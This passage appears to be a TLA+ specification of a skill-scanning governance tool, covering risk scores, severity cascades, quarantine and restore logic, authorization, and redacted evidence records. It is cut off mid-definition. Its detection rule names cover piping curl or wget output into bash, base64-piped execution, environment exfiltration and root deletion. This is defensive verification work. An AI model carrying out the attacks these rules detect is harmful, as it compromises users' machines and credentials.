ComboNames(a) == {a.combos[i].name : i \in DOMAIN a.combos}
ToSet(seq) == {seq[i] : i \in DOMAIN seq}
Permuted(fs, p) == [i \in DOMAIN fs |-> fs[p[i]]]
Assessed == pcA = "done"
Verdict(a) == <<a.score, a.level, a.action, a.combos>>

\* C2: a finding list with at least one CRITICAL finding is assessed CRITICAL with
\* action quarantine, whatever the other findings and the score.
C2_CriticalFindingGivesCritical ==
    (Assessed /\ CountSeverity(findings, "CRITICAL") >= 1)
        => (assessment.level = "CRITICAL" /\ assessment.action = "quarantine")

\* A lone CRITICAL finding whose score (100) is below the CRITICAL score threshold.
C2_Witness ==
    /\ Assessed
    /\ CountSeverity(findings, "CRITICAL") = 1
    /\ assessment.score < 200
    /\ assessment.level = "CRITICAL"

\* The cascade of C3 on a final score and a finding list, first match wins.
CascadeOf(score, fs) ==
    CASE CountSeverity(fs, "CRITICAL") >= 1 \/ score >= 200 -> <<"CRITICAL", "quarantine">>
      [] ~(CountSeverity(fs, "CRITICAL") >= 1 \/ score >= 200)
         /\ (CountSeverity(fs, "HIGH") >= 2 \/ score >= 100) -> <<"HIGH", "disable">>
      [] ~(CountSeverity(fs, "CRITICAL") >= 1 \/ score >= 200)
         /\ ~(CountSeverity(fs, "HIGH") >= 2 \/ score >= 100)
         /\ (CountSeverity(fs, "HIGH") >= 1 \/ score >= 40) -> <<"MEDIUM", "warn">>
      [] ~(CountSeverity(fs, "CRITICAL") >= 1 \/ score >= 200)
         /\ ~(CountSeverity(fs, "HIGH") >= 2 \/ score >= 100)
         /\ ~(CountSeverity(fs, "HIGH") >= 1 \/ score >= 40)
         /\ score > 0 -> <<"LOW", "log">>
      [] OTHER -> <<"SAFE", "none">>

\* C3: (level, action) is the first matching rule of the cascade, evaluated on the
\* final score (base plus combo bonuses) and the CRITICAL/HIGH finding counts.
C3_LevelFollowsCascade ==
    Assessed => <<assessment.level, assessment.action>> = CascadeOf(assessment.score, findings)

\* CRITICAL reached by score alone: no CRITICAL finding, final score >= 200.
C3_Witness ==
    /\ Assessed
    /\ CountSeverity(findings, "CRITICAL") = 0
    /\ assessment.score >= 200
    /\ assessment.level = "CRITICAL"

\* The bonus of the combo of that name if it is among the detected combos, else 0.
BonusIfDetected(a, name, bonus) == IF name \in ComboNames(a) THEN bonus ELSE 0

\* C4: the score is the sum of the severity weights of all findings (with
\* multiplicity) plus the bonus of each detected combo, once; one curl-pipe-bash
\* CRITICAL plus one hardcoded-token HIGH scores 250 with combo supply-chain-attack.
C4_ScoreIsWeightsPlusBonuses ==
    Assessed =>
        /\ assessment.score =
              100 * CountSeverity(findings, "CRITICAL")
            + 50 * CountSeverity(findings, "HIGH")
            + 20 * CountSeverity(findings, "MEDIUM")
            + 5 * CountSeverity(findings, "LOW")
            + 1 * CountSeverity(findings, "INFO")
            + BonusIfDetected(assessment, "supply-chain-attack", 100)
            + BonusIfDetected(assessment, "obfuscated-execution", 80)
            + BonusIfDetected(assessment, "credential-theft", 70)
            + BonusIfDetected(assessment, "destructive-payload", 100)
            + BonusIfDetected(assessment, "install-hook-risky", 40)
        /\ (findings = << Finding("curl-pipe-bash", "CRITICAL"),
                          Finding("hardcoded-token", "HIGH") >>
              => /\ assessment.score = 250
                 /\ "supply-chain-attack" \in ComboNames(assessment))

\* The example of C4, assessed.
C4_Witness ==
    /\ Assessed
    /\ findings = << Finding("curl-pipe-bash", "CRITICAL"), Finding("hardcoded-token", "HIGH") >>
    /\ assessment.score = 250

\* How often the combo of that name occurs in the returned combos.
Occurrences(a, name) == Cardinality({i \in DOMAIN a.combos : a.combos[i].name = name})

\* The combo occurs exactly once if at least min of its rules are among the
\* distinct rule ids of the findings, and not at all otherwise.
ComboIff(a, fs, name, rules, min) ==
    Occurrences(a, name) = IF Cardinality(rules \cap RuleIds(fs)) >= min THEN 1 ELSE 0

\* C5: each of the five combos is in the returned combos, exactly once, iff the
\* number of its rule ids among the distinct rule ids of the findings reaches its
\* minMatches; repeated findings of one rule count once.
C5_ComboIffDistinctRulesReachThreshold ==
    Assessed =>
        /\ ComboIff(assessment, findings, "supply-chain-attack",
                    {"curl-pipe-bash", "wget-pipe-bash", "download-execute"}, 1)
        /\ ComboIff(assessment, findings, "obfuscated-execution",
                    {"obfuscated-code", "shell-exec", "base64-pipe-bash"}, 2)
        /\ ComboIff(assessment, findings, "credential-theft",
                    {"hardcoded-token", "env-exfiltration", "network-request"}, 2)
        /\ ComboIff(assessment, findings, "destructive-payload",
                    {"rm-rf-root", "install-download", "metadata-install-download"}, 1)
        /\ ComboIff(assessment, findings, "install-hook-risky",
                    {"install-download", "metadata-install-download", "shell-exec"}, 2)
        /\ Len(assessment.combos) <= 5

\* Two findings of the same rule of a min-2 combo: the combo is not detected.
C5_Witness ==
    /\ Assessed
    /\ Len(findings) >= 2
    /\ findings[1].rule = "shell-exec"
    /\ findings[2].rule = "shell-exec"
    /\ "obfuscated-execution" \notin ComboNames(assessment)
    /\ "install-hook-risky" \notin ComboNames(assessment)

\* C6: assessRisk of any permutation of the list returns the same score, level,
\* action and combos (names, bonuses, matched rule ids).
C6_OrderIndependent ==
    Assessed =>
        \A p \in Permutations(DOMAIN findings) :
            Verdict(assessRisk(Permuted(findings, p))) = Verdict(assessment)

\* A list whose order matters to the loop: a CRITICAL finding after a LOW one,
\* with a combo matched by rules found in the opposite order of the combo's list.
C6_Witness ==
    /\ Assessed
    /\ Len(findings) = 3
    /\ findings[1].rule = "shell-exec"
    /\ findings[2].rule = "wget-pipe-bash"
    /\ findings[3].rule = "curl-pipe-bash"
    /\ Len(assessment.combos) = 1

ExactlyTwoHigh(fs) ==
    /\ Len(fs) = 2
    /\ CountSeverity(fs, "HIGH") = 2

NoComboTriggered(fs) ==
    \A i \in DOMAIN COMBOS :
        Cardinality(ToSet(COMBOS[i].rules) \cap RuleIds(fs)) < COMBOS[i].minMatches

C8_SafeIffEmpty ==
    Assessed =>
        /\ (assessment.score = 0 /\ assessment.level = "SAFE" /\ assessment.action = "none")
              <=> findings = <<>>
        /\ findings = <<>> =>
              (~shouldAutoQuarantine(assessment) /\ ~shouldAutoDisable(assessment))
        /\ findings # <<>> => (assessment.score > 0 /\ assessment.level # "SAFE")

\* The empty list, assessed.
C8_Witness ==
    /\ Assessed
    /\ findings = <<>>
    /\ assessment.level = "SAFE"

(***************************************************************************)
(* Properties of the governance store (Spec)                              *)
(***************************************************************************)
AllKeys == SkillKeys \cup {BystanderKey}

\* The step is an operation that called the core function fn for k; with success.
Invoked(fn, k) ==
    \E i \in DOMAIN result'.calls :
        result'.calls[i].fn = fn /\ result'.calls[i].skillKey = k
InvokedWithSuccess(fn, k) ==
    \E i \in DOMAIN result'.calls :
        /\ result'.calls[i].fn = fn
        /\ result'.calls[i].skillKey = k
        /\ result'.calls[i].success

\* C1: when the entry of a skillKey already carries a quarantine block, a call of
\* quarantineSkill for it (direct, or from a command) returns success false and
\* leaves the block (timestamp, reason, evidenceId, backupPath) as it was.
C1_QuarantineIdempotentSafe ==
    [][\A k \in SkillKeys :
        (isQuarantined(config, k) # Null /\ Invoked("quarantineSkill", k)) =>
            /\ ~InvokedWithSuccess("quarantineSkill", k)
            /\ isQuarantined(config', k) = isQuarantined(config, k)]_vars

\* C9: no entry of the store is at once allowlisted and carrying a quarantine block.
C9_NeverAllowlistedAndQuarantined ==
    \A k \in AllKeys : ~(isAllowlisted(config, k) /\ isQuarantined(config, k) # Null)

FieldsOf(file, k) ==
    IF getSkillStatus(file, k) = Null THEN EmptyObject ELSE getSkillStatus(file, k)

\* C11: right after a successful quarantine of k, isQuarantined(k) returns the
\* block with the reason that was given; a successful restore of k starts from an
\* entry with a block, and right after it isQuarantined(k) returns null and
\* getSkillStatus(k).enabled is true, whatever the store held at the start.
C11_QuarantineThenRestore ==
    [][\A k \in SkillKeys :
        /\ \A i \in DOMAIN result'.calls :
              LET c == result'.calls[i] IN
              (c.fn = "quarantineSkill" /\ c.skillKey = k /\ c.success) =>
                  /\ isQuarantined(config', k) # Null
                  /\ isQuarantined(config', k).reason = c.reason
        /\ InvokedWithSuccess("restoreSkill", k) =>
              /\ isQuarantined(config, k) # Null
              /\ isQuarantined(config', k) = Null
              /\ getSkillStatus(config', k) # Null
              /\ getSkillStatus(config', k).enabled = TRUE]_vars

\* A successful restore of a key that a quarantine had backed up, on a store whose
\* file did not exist at the start (the entry holds nothing but enabled).
C11_Witness ==
    /\ result.op \in {"restoreSkill", "govRestore"}
    /\ result.ret.success
    /\ \E k \in SkillKeys :
        /\ result.ret.skillKey = k
        /\ \E b \in backups : b[2] = k
        /\ isQuarantined(config, k) = Null
        /\ getSkillStatus(config, k) = [enabled |-> TRUE]

\* C12: restoreSkill(k) when k has no entry, or an entry without a quarantine
\* block, returns a result with success false, configUpdated false and a message,
\* leaves the store file as it was, and creates no entry for k.
C12_RestoreWithoutBlockFails ==
    [][\A k \in SkillKeys :
        (/\ result'.op = "restoreSkill"
         /\ result'.ret.skillKey = k
         /\ ~Has(FieldsOf(config, k), "_quarantine")) =>
            /\ result'.ret.success = FALSE
            /\ result'.ret.configUpdated = FALSE
            /\ result'.ret.message \in {"not found in config", "is not quarantined"}
            /\ config' = config
            /\ getSkillStatus(config', k) = getSkillStatus(config, k)]_vars

\* restoreSkill returned "not found" for a key without entry in a readable store
\* that has entries of other keys, and the key still has no entry.
C12_Witness ==
    /\ result.op = "restoreSkill"
    /\ result.ret.message = "not found in config"
    /\ result.ret.success = FALSE
    /\ config.state = "ok"
    /\ getSkillStatus(config, result.ret.skillKey) = Null

Mutated(k) ==
    \E fn \in {"quarantineSkill", "restoreSkill", "disableSkill", "allowlistSkill"} :
        InvokedWithSuccess(fn, k)

\* C14: a successful quarantine, restore, disable or allowlist of k on a readable
\* document leaves every top-level key other than skills, every key of skills
\* other than entries (dirs), and the entry of every other skillKey as they were.
C14_MutationKeepsRestOfDocument ==
    [][\A k \in SkillKeys :
        (Mutated(k) /\ config.state = "ok") =>
            LET old == config.doc
                new == config'.doc
            IN  /\ config'.state = "ok"
                /\ \A key \in DOMAIN old \ {"skills"} :
                      key \in DOMAIN new /\ new[key] = old[key]
                /\ Has(old, "skills") =>
                      \A f \in DOMAIN old.skills \ {"entries"} :
                          f \in DOMAIN new.skills /\ new.skills[f] = old.skills[f]
                /\ (Has(old, "skills") /\ Has(old.skills, "entries")) =>
                      \A other \in DOMAIN old.skills.entries \ {k} :
                          /\ other \in DOMAIN new.skills.entries
                          /\ new.skills.entries[other] = old.skills.entries[other]]_vars

CoreFunctions == {"quarantineSkill", "restoreSkill", "disableSkill", "allowlistSkill"}
IoFailures ==
    {"Failed to quarantine", "Failed to restore", "Failed to disable", "Failed to allowlist"}

\* C16: a quarantine, restore, disable or allowlist that fails on the backup
\* directory or on the write returns success false and configUpdated false, and
\* the store file is what it was before the call; the same holds of the file when
\* the failing call is made by a command.
C16_FailedMutationLeavesStore ==
    [][/\ (result'.op \in CoreFunctions /\ result'.ret.message \in IoFailures) =>
              /\ result'.ret.success = FALSE
              /\ result'.ret.configUpdated = FALSE
              /\ config' = config
       /\ \A i \in DOMAIN result'.calls :
              (result'.calls[i].fn \in CoreFunctions /\ ~result'.calls[i].success) =>
                  config' = config]_vars

\* quarantineSkill made its backup directory, failed on the write, and the file
\* that did not exist still does not.
C16_Witness ==
    /\ result.op = "quarantineSkill"
    /\ result.ret.message = "Failed to quarantine"
    /\ backups # {}
    /\ config = FileMissing

GovCommands == {"govScan", "govQuarantine", "govRestore", "govAllow"}

\* The step is a command in which an authorization call returned authorized false.
Denied ==
    /\ result'.op \in GovCommands
    /\ \E i \in DOMAIN result'.calls :
          result'.calls[i].fn = "requireAuthWithTest" /\ ~result'.calls[i].success

\* C19: a command whose authorization is denied has modified neither the store
\* file nor the evidence directory nor the backup location when it returns.
C19_DenialBeforeAnyMutation ==
    [][Denied => (config' = config /\ evidenceDir' = evidenceDir /\ backups' = backups)]_vars

\* The action a command names in its authorization call for each core function.
AuthActionOf(fn) ==
    CASE fn = "quarantineSkill" -> "quarantine"
      [] fn = "restoreSkill" -> "restore"
      [] fn = "disableSkill" -> "disable"
      [] fn = "allowlistSkill" -> "allow"

\* C20: in a command, every call of quarantineSkill, restoreSkill, disableSkill
\* or allowlistSkill comes after an authorization call for the same action and
\* skillKey that returned authorized true, and the store file changes in no
\* command that made no such call.
C20_WriteOnlyAfterAuthorization ==
    [][result'.op \in GovCommands =>
        /\ \A i \in DOMAIN result'.calls :
              result'.calls[i].fn \in CoreFunctions =>
                  \E j \in 1..(i - 1) :
                      result'.calls[j] = AuthCall(AuthActionOf(result'.calls[i].fn),
                                                  result'.calls[i].skillKey, TRUE)
        /\ config' # config =>
              \E i \in DOMAIN result'.calls : result'.calls[i].fn \in CoreFunctions]_vars

\* govScan disabled a skill after its authorization for disable was granted.
C20_Witness ==
    /\ result.op = "govScan"
    /\ Len(result.calls) = 4
    /\ result.calls[3] = AuthCall("disable", result.calls[4].skillKey, TRUE)
    /\ result.calls[4].fn = "disableSkill"
    /\ result.calls[4].success
    /\ getSkillStatus(config, result.calls[3].skillKey).enabled = FALSE

(***************************************************************************)
(* Properties of the authorization (SpecAuth)                              *)
(***************************************************************************)
\* The user cannot be consulted: stdin is no TTY, the prompt throws or times out.
Unavailable(env) == ~env.isTTY \/ env.answer \in {"error", "timeout"}
AuthCalled == authResult # NoAuthResult

C15_StoreOldUntilRename ==
    [][config' # config =>
        /\ config'.state = "ok"
        /\ \E p \in Procs :
              /\ procs[p].pc = "written"
              /\ procs'[p].pc = "done"
              /\ config' = procs[p].data]_vars

Succeeded2 == \A p \in Procs : procs[p].pc = "done"
Later == CHOOSE p \in Procs : procs[p].rank = 2
Earlier == CHOOSE p \in Procs : procs[p].rank = 1
\* The later writer read the store before the earlier one had renamed.
Overlapped == Earlier \notin procs[Later].seen
EntryIn(file, k) == getSkillStatus(file, k)

\* C17: when both mutations return success the store holds what the later writer
\* wrote; for mutations of different keys the entry the earlier writer wrote is
\* in the store exactly when the later writer read the store after the earlier
\* one had renamed, and when the two overlapped that entry is what it was before
\* either wrote: the earlier update is lost.
C17_LastWriterWins ==
    Succeeded2 =>
        /\ config = procs[Later].data
        /\ procs[Earlier].op.skillKey # procs[Later].op.skillKey =>
              LET k == procs[Earlier].op.skillKey IN
              /\ (EntryIn(config, k) = EntryIn(procs[Earlier].data, k)) <=> ~Overlapped
              /\ Overlapped =>
                    /\ EntryIn(config, k) # EntryIn(procs[Earlier].data, k)
                    /\ (procs[Earlier].snapshot # EmptyObject =>
                            EntryIn(config, k) = EntryIn(FileOf(procs[Earlier].snapshot), k))

\* Both returned success, the later one had read before the earlier one renamed,
\* and the store lacks the allowlisting the earlier one wrote.
C17_Witness ==
    /\ Succeeded2
    /\ Overlapped
    /\ procs[Earlier].op = [fn |-> "allowlistSkill", skillKey |-> "risky-skill"]
    /\ procs[Later].op = [fn |-> "disableSkill", skillKey |-> BystanderKey]
    /\ ~isAllowlisted(config, "risky-skill")
    /\ isAllowlisted(procs[Earlier].data, "risky-skill")

(***************************************************************************)
(* Properties of the evidence (SpecEvidence)                               *)
(***************************************************************************)
\* generateEvidence has just returned saving.evidence for the scan in findings.
Generated == saving.pc = "generated"
HashText(rf) == Chars(rf.snippet_hash[1]) \o Chars(rf.snippet_hash[2])

\* The texts of the fields of a RedactedFinding
FieldTexts(rf) ==
    { Chars(rf.rule), Chars(rf.severity), Chars(rf.file), toString(rf.line),
      Chars(rf.description), HashText(rf), Chars("true") }

\* C21 (as claimed): no field of a RedactedFinding of the evidence, and not the
\* JSON text of the evidence, contains the matched text of any finding of the scan;
\* each finding has both flags true and the hash "sha256:" + sha256(match).
C21_NoFieldHoldsMatchText ==
    Generated =>
        \A i \in DOMAIN findings :
            /\ saving.evidence.findings[i].snippet_redacted = TRUE
            /\ saving.evidence.findings[i].redaction_applied = TRUE
            /\ saving.evidence.findings[i].snippet_hash = <<"sha256:", sha256(findings[i].match)>>
            /\ \A j \in DOMAIN saving.evidence.findings :
                  \A text \in FieldTexts(saving.evidence.findings[j]) :
                      ~includes(text, Chars(findings[i].match))
            /\ ~includes(stringifyEvidence(saving.evidence), Chars(findings[i].match))

\* C21 (amended): generateEvidence copies the matched text into no field. Each
\* RedactedFinding has exactly the fields rule, severity, file, line, description
\* (the finding's own), the two flags (true) and the hash "sha256:" +
\* sha256(match), whose digest does not contain the match; the JSON text of the
\* evidence contains a matched text only where the id or the description of the
\* rule of a finding contains it.
C21_MatchOnlyThroughHash ==
    Generated =>
        /\ DOMAIN saving.evidence.findings = DOMAIN findings
        /\ \A i \in DOMAIN findings :
              LET f == findings[i]
                  rf == saving.evidence.findings[i]
              IN  /\ DOMAIN rf = {"rule", "severity", "file", "line", "description",
                                  "snippet_redacted", "snippet_hash", "redaction_applied"}
                  /\ rf.rule = f.rule /\ rf.severity = f.severity /\ rf.file = f.file
                  /\ rf.line = f.line
                  /\ rf.description = RuleById(f.rule).description
                  /\ rf.snippet_redacted = TRUE /\ rf.redaction_applied = TRUE
                  /\ rf.snippet_hash = <<"sha256:", sha256(f.match)>>
                  /\ ~includes(HashText(rf), Chars(f.match))
                  /\ includes(stringifyEvidence(saving.evidence), Chars(f.match)) =>
                        \E j \in DOMAIN findings :
                            \/ includes(Chars(findings[j].rule), Chars(f.match))
                            \/ includes(Chars(RuleById(findings[j].rule).description),
                                        Chars(f.match))

\* Evidence was generated for a scan whose finding of shell-exec matched "exec":
\* the text is in the rule id of the redacted finding, which has the hash of it.
C21_Witness ==
    /\ Generated
    /\ \E i \in DOMAIN findings :
          /\ findings[i].match = "exec"
          /\ saving.evidence.findings[i].rule = "shell-exec"
          /\ includes(Chars(saving.evidence.findings[i].rule), Chars(findings[i].match))
          /\ saving.evidence.findings[i].snippet_hash = <<"sha256:", "2706c619">>

\* The evidence files present
EvidenceFiles == IF evidenceDir = DirMissing THEN {} ELSE DOMAIN evidenceDir

\* C22: whatever step saveEvidence has reached, failed at or crashed at, every
\* file <id>.json that exists holds a complete record, and loadEvidence returns it.
C22_EvidenceFileAbsentOrComplete ==
    \A id \in EvidenceFiles :
        /\ evidenceDir[id] # FilePartial
        /\ loadEvidence(evidenceDir, id) = evidenceDir[id]

\* C23: an id that generateEvidence draws is the id of no evidence file, and a
\* record once saved stays in its file unchanged.
C23_EvidenceAppendOnly ==
    [][/\ (saving'.pc = "generated" /\ saving' # saving) =>
              saving'.evidence.id \notin EvidenceFiles
       /\ \A id \in EvidenceFiles :
              evidenceDir[id] # FilePartial =>
                  /\ evidenceDir' # DirMissing
                  /\ Has(evidenceDir', id)
                  /\ evidenceDir'[id] = evidenceDir[id]]_vars

(***************************************************************************)
(* Properties of the commands and the evidence they save (Spec)            *)
(***************************************************************************)
\* C24: when govScan or govQuarantine writes a quarantine block (quarantineSkill
\* returned success), a saveEvidence of the record with that id and the same
\* skillKey returned earlier in the command, the block in the store names that
\* id, and the record is in the evidence directory under it.
C24_QuarantineReferencesSavedEvidence ==
    [][result'.op \in {"govScan", "govQuarantine"} =>
        \A i \in DOMAIN result'.calls :
            (result'.calls[i].fn = "quarantineSkill" /\ result'.calls[i].success) =>
                LET id == result'.calls[i].evidenceId
                    k == result'.calls[i].skillKey
                IN  /\ \E j \in 1..(i - 1) :
                          /\ result'.calls[j].fn = "saveEvidence"
                          /\ result'.calls[j].success
                          /\ result'.calls[j].evidenceId = id
                          /\ result'.calls[j].skillKey = k
                    /\ isQuarantined(config', k) # Null
                    /\ isQuarantined(config', k).evidenceId = id
                    /\ loadEvidence(evidenceDir', id) # Null
                    /\ loadEvidence(evidenceDir', id).skillKey = k
                    /\ loadEvidence(evidenceDir', id).id = id]_vars

\* govScan has quarantined the skill: the block names the evidence it saved.
C24_Witness ==
    /\ result.op = "govScan"
    /\ Len(result.calls) = 4
    /\ result.calls[2].fn = "saveEvidence"
    /\ result.calls[4].fn = "quarantineSkill"
    /\ result.calls[4].success
    /\ isQuarantined(config, "risky-skill").evidenceId = result.calls[2].evidenceId
    /\ loadEvidence(evidenceDir, result.calls[2].evidenceId).skillKey = "risky-skill"

\* The entry of k in the store carries _allowlisted true.
AllowlistFlag(file, k) ==
    Has(FieldsOf(file, k), "_allowlisted") /\ FieldsOf(file, k)._allowlisted = TRUE

\* C25: a govScan that discovers the skill while its entry carries _allowlisted
\* true counts it as skipped and not as scanned, lists no finding and no action
\* for it, calls neither saveEvidence nor the authorization nor a core function,
\* and leaves the store, the evidence directory and the backups as they were;
\* every govScan that returns has scannedSkills + skippedSkills = totalSkills.
C25_AllowlistedSkillSkipped ==
    [][result'.op = "govScan" =>
        /\ \A k \in SkillKeys :
              AllowlistFlag(config, k) =>
                  /\ result'.ret \in {GovScanResult(0, 0, 0, <<>>, <<>>),
                                      GovScanResult(1, 0, 1, <<>>, <<>>)}
                  /\ result'.calls = <<>>
                  /\ config' = config
                  /\ evidenceDir' = evidenceDir
                  /\ backups' = backups
        /\ Has(result'.ret, "totalSkills") =>
              result'.ret.scannedSkills + result'.ret.skippedSkills = result'.ret.totalSkills]_vars

\* govScan has skipped the allowlisted skill.
C25_Witness ==
    /\ result.op = "govScan"
    /\ result.ret = GovScanResult(1, 0, 1, <<>>, <<>>)
    /\ AllowlistFlag(config, "risky-skill")

\* The level govScan assessed for k in the step, "none" when it did not scan k.
LevelScanned(k) ==
    IF \E i \in DOMAIN result'.calls :
            result'.calls[i].fn = "scanSkill" /\ result'.calls[i].skillKey = k
    THEN result'.calls[CHOOSE i \in DOMAIN result'.calls :
            result'.calls[i].fn = "scanSkill" /\ result'.calls[i].skillKey = k].level
    ELSE "none"

\* No authorization was denied and no saveEvidence or core function failed.
NothingRefusedOrFailed == \A i \in DOMAIN result'.calls : result'.calls[i].success

\* C26: a govScan in which nothing is denied and nothing fails leaves every skill
\* it assessed CRITICAL quarantined, with the evidence of the block saved, and
\* every skill it assessed HIGH disabled.
C26_CriticalQuarantinedHighDisabled ==
    [][(result'.op = "govScan" /\ NothingRefusedOrFailed) =>
        \A k \in SkillKeys :
            /\ LevelScanned(k) = "CRITICAL" =>
                  /\ InvokedWithSuccess("quarantineSkill", k)
                  /\ isQuarantined(config', k) # Null
                  /\ loadEvidence(evidenceDir', isQuarantined(config', k).evidenceId) # Null
            /\ LevelScanned(k) = "HIGH" =>
                  /\ InvokedWithSuccess("disableSkill", k)
                  /\ FieldsOf(config', k).enabled = FALSE]_vars

\* C27: shouldAutoQuarantine holds of the level CRITICAL only and shouldAutoDisable
\* of the level HIGH only; a govScan asks for the authorization of a quarantine
\* only for a skill it assessed CRITICAL and of a disable only for one it assessed
\* HIGH, and for a skill it assessed MEDIUM, LOW or SAFE it asks for no
\* authorization, calls no core function and leaves the store as it was.
C27_OnlyCriticalAndHighAct ==
    [][result'.op = "govScan" =>
        /\ \A l \in {"CRITICAL", "HIGH", "MEDIUM", "LOW", "SAFE"} :
              /\ shouldAutoQuarantine([level |-> l]) <=> l = "CRITICAL"
              /\ shouldAutoDisable([level |-> l]) <=> l = "HIGH"
        /\ \A k \in SkillKeys :
              /\ \A i \in DOMAIN result'.calls :
                    /\ result'.calls[i] \in {AuthCall("quarantine", k, b) : b \in BOOLEAN}
                          => LevelScanned(k) = "CRITICAL"
                    /\ result'.calls[i] \in {AuthCall("disable", k, b) : b \in BOOLEAN}
                          => LevelScanned(k) = "HIGH"
                    /\ result'.calls[i].fn = "quarantineSkill" => LevelScanned(k) = "CRITICAL"
                    /\ result'.calls[i].fn = "disableSkill" => LevelScanned(k) = "HIGH"
              /\ LevelScanned(k) \in {"MEDIUM", "LOW", "SAFE"} =>
                    /\ \A i \in DOMAIN result'.calls :
                          result'.calls[i].fn \in {"scanSkill", "saveEvidence"}
                    /\ config' = config
                    /\ backups' = backups]_vars

\* govScan has assessed the skill MEDIUM, saved the evidence and done nothing more.
C27_Witness ==
    /\ result.op = "govScan"
    /\ Len(result.calls) = 2
    /\ result.calls[1].fn = "scanSkill"
    /\ result.calls[1].level = "MEDIUM"
    /\ result.calls[2].fn = "saveEvidence"
    /\ result.calls[2].success
    /\ result.ret.actionsApplied = <<>>

\* The entry the document of the store file holds under the key, if it holds one.
StoredEntry(file, k) == file.doc.skills.entries[k]
HoldsEntry(file, k) ==
    /\ file.state = "ok"
    /\ Has(file.doc, "skills")
    /\ Has(file.doc.skills, "entries")
    /\ Has(file.doc.skills.entries, k)
ReadOps == {"isQuarantined", "isAllowlisted", "getSkillStatus"}

\* C28: in every state of the store file (missing, unreadable, or a document) a
\* call of isQuarantined, isAllowlisted or getSkillStatus raises nothing and
\* leaves the store, the backups and the evidence as they were; for a key the
\* document holds no entry under it returns null, false and null, and for a key
\* with an entry the entry's quarantine block (null without one), whether the
\* entry's _allowlisted is true, and the entry.
C28_ReadsArePure ==
    [][result'.op \in ReadOps =>
        LET k == result'.ret.skillKey
            value == result'.ret.value
        IN  /\ config' = config
            /\ backups' = backups
            /\ evidenceDir' = evidenceDir
            /\ ~Has(result'.ret, "thrown")
            /\ result'.op = "isQuarantined" =>
                  value = IF HoldsEntry(config, k) /\ Has(StoredEntry(config, k), "_quarantine")
                          THEN StoredEntry(config, k)._quarantine ELSE Null
            /\ result'.op = "isAllowlisted" =>
                  value = (/\ HoldsEntry(config, k)
                           /\ Has(StoredEntry(config, k), "_allowlisted")
                           /\ StoredEntry(config, k)._allowlisted = TRUE)
            /\ result'.op = "getSkillStatus" =>
                  value = IF HoldsEntry(config, k) THEN StoredEntry(config, k) ELSE Null]_vars

\* The complete evidence records stored for the skill.
StoredEvidenceOf(k) ==
    {evidenceDir[id] : id \in {i \in EvidenceFiles :
                                  /\ evidenceDir[i] # FilePartial
                                  /\ evidenceDir[i].skillKey = k}}

\* C29: the list findEvidenceForSkill(k) returns holds every stored record of the
\* skill once and no other record, latest scanTimestamp first, and is empty
\* when the evidence directory does not exist.
C29_FindReturnsAllOfSkillNewestFirst ==
    result.op = "findEvidenceForSkill" =>
        LET found == result.ret.evidence
            k == result.ret.skillKey
        IN  /\ {found[i] : i \in DOMAIN found} = StoredEvidenceOf(k)
            /\ Len(found) = Cardinality(StoredEvidenceOf(k))
            /\ \A i, j \in DOMAIN found :
                  i < j => found[i].scanTimestamp >= found[j].scanTimestamp
            /\ evidenceDir = DirMissing => found = <<>>

\* No complete record is stored under the id.
Unresolved(id) == id \notin EvidenceFiles \/ evidenceDir[id] = FilePartial

\* C30: loadEvidence returns null for an id without a stored record; a govRestore
\* of a quarantined skill whose evidenceId resolves to no record asks for the
\* authorization of the restore, and when it is granted calls restoreSkill, whose
\* success leaves the entry without quarantine block and enabled, and which fails
\* only when the store cannot be written.
C30_MissingEvidenceTolerated ==
    [][/\ \A id \in EvidenceIds : Unresolved(id) => loadEvidence(evidenceDir, id) = Null
       /\ \A k \in SkillKeys :
            (/\ result'.op = "govRestore"
             /\ HoldsEntry(config, k)
             /\ Has(StoredEntry(config, k), "_quarantine")
             /\ Unresolved(StoredEntry(config, k)._quarantine.evidenceId)) =>
                /\ result'.calls # <<>>
                /\ result'.calls[1] \in {AuthCall("restore", k, b) : b \in BOOLEAN}
                /\ result'.calls[1].success =>
                      /\ Len(result'.calls) = 2
                      /\ result'.calls[2].fn = "restoreSkill"
                      /\ result'.ret.success = result'.calls[2].success
                      /\ result'.ret.success =>
                            /\ isQuarantined(config', k) = Null
                            /\ FieldsOf(config', k).enabled = TRUE
                      /\ ~result'.ret.success =>
                            /\ result'.ret.message = "Failed to restore"
                            /\ config' = config]_vars

\* govRestore has restored a skill while no evidence record was stored at all.
C30_Witness ==
    /\ result.op = "govRestore"
    /\ result.ret.success
    /\ evidenceDir = DirMissing
    /\ result.calls = <<AuthCall("restore", result.ret.skillKey, TRUE),
                        Call("restoreSkill", Succeeded(result.ret.skillKey, "Restored"))>>
    /\ isQuarantined(config, result.ret.skillKey) = Null

\* The evidence record as the JSON value it is: its members in the order
\* generateEvidence lists them, each finding with its members in order.
FindingValue(rf) ==
    JsonObj(<< [key |-> Chars("rule"), value |-> JsonStr(Chars(rf.rule))],
               [key |-> Chars("severity"), value |-> JsonStr(Chars(rf.severity))],
               [key |-> Chars("file"), value |-> JsonStr(Chars(rf.file))],
               [key |-> Chars("line"), value |-> JsonNum(rf.line)],
               [key |-> Chars("description"), value |-> JsonStr(Chars(rf.description))],
               [key |-> Chars("snippet_redacted"), value |-> JsonBool(rf.snippet_redacted)],
               [key |-> Chars("snippet_hash"),
                value |-> JsonStr(Chars(rf.snippet_hash[1]) \o Chars(rf.snippet_hash[2]))],
               [key |-> Chars("redaction_applied"), value |-> JsonBool(rf.redaction_applied)] >>)
EvidenceValue(ev) ==
    JsonObj(<< [key |-> Chars("id"), value |-> JsonStr(Chars(ev.id))],
               [key |-> Chars("skillKey"), value |-> JsonStr(Chars(ev.skillKey))],
               [key |-> Chars("skillPath"),
                value |-> JsonStr(Chars(ev.skillPath[1]) \o <<"/">> \o Chars(ev.skillPath[2]))],
               [key |-> Chars("scanTimestamp"), value |-> JsonStr(toString(ev.scanTimestamp))],
               [key |-> Chars("riskLevel"), value |-> JsonStr(Chars(ev.riskLevel))],
               [key |-> Chars("riskScore"), value |-> JsonNum(ev.riskScore)],
               [key |-> Chars("recommendedAction"),
                value |-> JsonStr(Chars(ev.recommendedAction))],
               [key |-> Chars("findings"),
                value |-> JsonArr([i \in DOMAIN ev.findings |-> FindingValue(ev.findings[i])])],
               [key |-> Chars("combos"),
                value |-> JsonArr([i \in DOMAIN ev.combos |-> JsonStr(Chars(ev.combos[i]))])] >>)

\* C31: once saveEvidence(e) has returned, the path it returned is the one made
\* of the directory and <e.id>.json, and loadEvidence(e.id) returns a record with
\* the members of e: the same id, skillKey, risk fields and the same findings in
\* the same order.
C31_SaveLoadRoundTrip ==
